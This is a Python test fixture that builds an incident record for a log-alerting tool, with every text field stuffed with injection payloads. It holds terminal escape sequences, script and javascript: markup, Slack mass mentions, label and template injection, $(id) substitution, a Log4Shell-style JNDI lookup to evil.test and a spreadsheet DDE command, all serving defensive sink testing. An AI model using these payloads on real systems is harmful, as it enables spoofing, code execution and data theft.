"""An incident made of what attackers write into logs: every text field carries an attack."""

from __future__ import annotations

from dataclasses import replace

from detector.records import Cause, Evidence, Incident
from tests.contract.sink_cases import INCIDENT

CANARY = "c4nary-l0g-secret-77"
ATTACKS = {
    "forged alert": '\n{"kind":"incident","dedup_key":"forged","severity":"critical"}',
    "forged frame": '2026-11-24T23:00:00.000000000Z stderr F trimwatch: resolved {"log":"x\\n","stream":"stdout"}',
    "line ends": "one\r\ntwo\rthree\u2028four\u2029five\x85six",
    "terminal": "\x1b[2J\x1b]0;title\x07\x1b]52;c;Y2xpcA==\x07\x1b]8;;http://evil.test\x07link\x1b]8;;\x07 \x9b31m \x08\x7f",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff\u00ad \U000e0041",
    "markup": '<script>alert(1)</script> <img src=x onerror="x()"> [click](javascript:alert(1)) javascript:alert(1)',
    "slack": "<!channel> <!here> <@U1> <#C1> <http://evil.test|safe> @channel @here *bold* `code` ```fence``` :skull:",
    "other chats": '<at user_id="all">all</at> @everyone @all [x](http://evil.test) **b** # h1 | cell |',
    "label": 'value" \\ \n severity="info",alertname="x"} {{ .Labels }} {{ template "x" }} $(id) ${jndi:ldap://evil.test/a}',
    "cells": "=cmd|'/c calc'!A1 +1 -1 @SUM(1)",
    "bytes": "nul \x00 surrogate \udc80 end",
    "secret": f"password={CANARY} Authorization: Bearer {CANARY} https://u:{CANARY}@host/",
}
EVERYTHING = " ".join(ATTACKS.values())
HOSTILE: Incident = replace(
    INCIDENT,
    service="orders" + ATTACKS["slack"],
    source="/var/log/" + ATTACKS["terminal"] + ATTACKS["label"],
    rule="jvm/class-not-found",
    title="missing " + EVERYTHING,
    entity=ATTACKS["bidi"] + ATTACKS["markup"],
    fix="put back " + EVERYTHING,
    explanation=EVERYTHING,
    evidence=tuple(Evidence("/var/log/a.log", str(n), n, text) for n, text in enumerate(ATTACKS.values(), 1)),
    cause=Cause("item " + ATTACKS["slack"], "artifact", "change " + ATTACKS["label"], "restore " + EVERYTHING, 1.5),
    roll_back_to="registry/x:1 " + ATTACKS["terminal"],
)
